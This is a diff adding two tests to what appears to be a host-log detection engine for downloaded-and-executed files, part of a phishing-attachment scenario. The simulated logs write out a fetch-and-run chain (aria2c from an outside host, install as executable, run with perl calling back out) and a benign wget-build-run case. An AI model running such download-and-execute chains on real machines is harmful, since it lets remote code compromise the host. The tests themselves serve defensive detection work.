@@ -3,6 +3,7 @@ import { test } from 'node:test';
 import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
 import { HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
 import {
+  atMostAt,
   factorsOf,
   firesAt,
   inOrder,
@@ -274,6 +275,33 @@ test('without file records the place and the browser carry it, low, and the gap 
   assert.ok(factorsOf(alert).includes('only the place tells that it was downloaded'));
   assert.ok(alert.missing.some(text => text.includes('does not record file creation')));
   assert.ok(alert.links.some(link => link.from === 'file.created' && link.strength === 'unavailable'));
+});
+
+test('without file records the words of what fetched and copied it tell where the content went', async () => {
+  const log = new HostLog({ files: false });
+  log.desktop('dev').run(FIREFOX).connect('203.0.113.80', 443);
+  log.wait(MINUTE);
+  const shell = log.shell('dev');
+  shell.run(`/usr/bin/aria2c -q -d /tmp/dl http://${OUT}/calendar-sync`).connect(OUT, 80);
+  shell.run('/usr/bin/install -m 755 /tmp/dl/calendar-sync /home/dev/bin/calsync');
+  log.wait(MINUTE);
+  shell.run('/usr/bin/perl /home/dev/bin/calsync').connect(OUT, 443);
+  const alert = firesAt(await scanLog(log), 'AN0321', 'high');
+  assert.equal(alert.title, 'Download run: /home/dev/bin/calsync');
+  assert.ok(alert.steps.some(step => step.summary.includes('puts it at /tmp/dl/calendar-sync')));
+});
+
+test('without file records what a compiler made of fetched sources is no download', async () => {
+  const log = new HostLog({ files: false });
+  log.desktop('dev').run(FIREFOX).connect('203.0.113.80', 443);
+  log.wait(MINUTE);
+  const shell = log.shell('dev');
+  shell.run(`/usr/bin/wget -q http://${OUT}/hello.tgz`, { cwd: '/home/dev/src' }).connect(OUT, 80);
+  shell.run('/usr/bin/tar xf hello.tgz', { cwd: '/home/dev/src' });
+  const make = shell.run('/usr/bin/make check', { cwd: '/home/dev/src' });
+  make.run('/usr/bin/gcc -o hello hello.c', { cwd: '/home/dev/src' });
+  make.run('/home/dev/src/hello', { cwd: '/home/dev/src' });
+  atMostAt(await scanLog(log), 'informational');
 });
 
 test('without file records what speaks past the site by a port of its own is medium, and by one of the site itself low', async () => {
